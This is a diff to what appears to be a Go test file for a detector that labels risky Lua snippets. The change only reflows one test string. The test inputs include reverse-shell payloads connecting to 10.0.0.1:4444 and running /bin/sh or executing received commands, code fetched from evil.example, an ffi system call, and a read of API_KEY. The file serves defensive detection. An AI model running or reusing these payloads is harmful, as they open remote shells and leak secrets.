@@ -19,7 +19,8 @@ var luaCases = []testCase{
 		is("net-in http://evil.example/a", "code … from network")},
 	{`require("socket").connect("10.0.0.1", 4444); os.execute("/bin/sh -i")`,
 		is("net-in 10.0.0.1:4444", "shell /bin/sh -i", "exec /bin/sh -i from network")},
-	{`local s=require("socket");local t=s.tcp();t:connect("10.0.0.1","4444");while true do local r=t:receive();local f=io.popen(r,"r") end`, is("net-in 10.0.0.1:4444", "shell … from network")},
+	{`local s=require("socket");local t=s.tcp();t:connect("10.0.0.1","4444");while true do local r=t:receive();` +
+		`local f=io.popen(r,"r") end`, is("net-in 10.0.0.1:4444", "shell … from network")},
 	{`local ffi = require("ffi"); ffi.cdef[[int system(const char*);]]; ffi.C.system("id")`, is("shell id")},
 	{`package.loadlib("/tmp/x.so", "f"); print(os.getenv("API_KEY"), os.getenv("HOME"))`,
 		is("opaque package.loadlib", "read environment from secret")},
